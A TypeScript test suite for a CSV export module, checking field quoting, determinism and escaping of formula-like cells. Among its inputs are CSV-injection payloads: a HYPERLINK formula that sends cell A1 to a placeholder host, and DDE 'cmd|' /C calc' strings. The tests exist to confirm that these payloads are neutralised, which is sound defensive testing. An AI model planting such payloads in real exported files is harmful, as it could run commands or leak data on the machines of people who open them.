/** CSV export: RFC 4180 quoting, formula escaping, one row per relation with its first evidence sentence, determinism. */
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { buildEntitiesCsv, buildRelationsCsv, csvField } from '../../src/export/csv.js';
import type { ExportData } from '../../src/export/dataset.js';
import type { Store } from '../../src/store/store.js';
import { AWKWARD, awkwardData, extractedSample, parseCsv } from './fixtures.js';

/** What a reader of the export does to get the stored text back: drop the one apostrophe the escaping added. */
function unescapeCell(cell: string): string {
  return cell.startsWith("'") ? cell.slice(1) : cell;
}

describe('CSV export', () => {
  const quoting: [string, string][] = [
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    [' padded', '" padded"'],
    ['قاسم', 'قاسم'],
  ];
  for (const [input, expected] of quoting) {
    it(`quotes ${JSON.stringify(input)} as ${JSON.stringify(expected)}`, () => assert.equal(csvField(input), expected));
  }

  // Cells a spreadsheet would run (OWASP "CSV injection"): each gets a leading apostrophe and is quoted.
  const formulas: [string, string][] = [
    ['=HYPERLINK("http://x.test/?"&A1,"Click")', '"\'=HYPERLINK(""http://x.test/?""&A1,""Click"")"'],
    ['+98 21 6111 1111', '"\'+98 21 6111 1111"'],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['@SUM(1,2)', '"\'@SUM(1,2)"'],
    ['\t=1+1', '"\'\t=1+1"'],
    ['\r=1+1', '"\'\r=1+1"'],
    ["'tis the season", `"''tis the season"`],
  ];
  for (const [input, expected] of formulas) {
    it(`escapes formula-like ${JSON.stringify(input)} as ${JSON.stringify(expected)}`, () => assert.equal(csvField(input), expected));
  }

  it('leaves numbers, and text with a formula character later on, as they are', () => {
    assert.equal(csvField(-1.5), '-1.5');
    assert.equal(csvField('Smith-Jones = partner'), 'Smith-Jones = partner');
    assert.equal(csvField(' =1'), '" =1"');
  });

  it('escapes formula-like names, aliases and evidence in both files, reversibly', () => {
    const data = awkwardData();
    const sentence = '-  the ministry paid =SUM(A1:A9) to "them"\nlater.';
    data.entities[0] = { ...data.entities[0]!, name: '=cmd|\' /C calc\'!A0', aliases: ['@alias', 'plain'] };
    data.entities[1] = { ...data.entities[1]!, name: '+Hossein' };
    data.relations[0]!.evidence[0] = { documentId: '0123456789abcdef', start: 0, end: sentence.length, text: sentence };
    const [header, row] = parseCsv(buildRelationsCsv(data));
    const rel = Object.fromEntries(header!.map((h, i) => [h, row![i]!]));
    assert.equal(rel.source_name, "'+Hossein");
    assert.equal(rel.target_name, "'=cmd|' /C calc'!A0");
    assert.equal(rel.evidence_text, `'${sentence}`);
    assert.equal(unescapeCell(rel.evidence_text!).slice(Number(rel.start), Number(rel.end)), sentence);
    const entities = parseCsv(buildEntitiesCsv(data));
    assert.deepEqual(entities[1]!.slice(2, 4), ["'=cmd|' /C calc'!A0", "'@alias; plain"]);
    for (const cells of [...entities.slice(1), row!]) {
      for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `no cell starts a formula: ${JSON.stringify(cell)}`);
    }
  });

  it('round-trips awkward names and sentences through a strict parser', () => {
    const data = awkwardData();
    const relations = parseCsv(buildRelationsCsv(data));
    assert.equal(relations.length, 2);
    const row = Object.fromEntries(relations[0]!.map((h, i) => [h, relations[1]![i]]));
    assert.equal(row.source_name, AWKWARD.person);
    assert.equal(row.target_name, AWKWARD.org);
    assert.equal(row.evidence_text, AWKWARD.sentence);
    const entities = parseCsv(buildEntitiesCsv(data));
    assert.equal(entities[1]![2], AWKWARD.org);
    assert.equal(entities[1]![3], 'S&S, "the firm"');
  });

  describe('on the extracted sample corpus', () => {
    let store: Store;
    let data: ExportData;
    before(async () => ({ store, data } = await extractedSample()));
    after(() => store.close());

    it('writes one row per relation with names, counts, the first evidence sentence and its offsets', () => {
      const [header, ...rows] = parseCsv(buildRelationsCsv(data));
      assert.ok(data.relations.length > 10);
      assert.equal(rows.length, data.relations.length);
      const names = new Map(data.entities.map((e) => [e.id, e.name]));
      for (const [i, rel] of data.relations.entries()) {
        const row = Object.fromEntries(header!.map((h, j) => [h, rows[i]![j]]));
        assert.equal(row.id, rel.id);
        assert.equal(unescapeCell(row.source_name!), names.get(rel.source));
        assert.equal(unescapeCell(row.target_name!), names.get(rel.target));
        assert.equal(unescapeCell(row.evidence_text!), rel.evidence[0]!.text);
        assert.equal(Number(row.start), rel.evidence[0]!.start);
        assert.equal(Number(row.independent_sources), rel.independentSources);
        assert.equal(Number(row.evidence_count), rel.evidence.length);
      }
    });

    it('writes one row per entity', () => {
      const rows = parseCsv(buildEntitiesCsv(data));
      assert.equal(rows.length - 1, data.entities.length);
      assert.deepEqual(rows[0], ['id', 'type', 'name', 'aliases', 'mention_count', 'document_count', 'document_ids', 'collection', 'tags', 'notes']);
    });

    it('is byte-identical across two exports', async () => {
      const again = (await extractedSample());
      try {
        assert.equal(buildRelationsCsv(again.data), buildRelationsCsv(data));
        assert.equal(buildEntitiesCsv(again.data), buildEntitiesCsv(data));
      } finally {
        await again.store.close();
      }
    });
  });
});
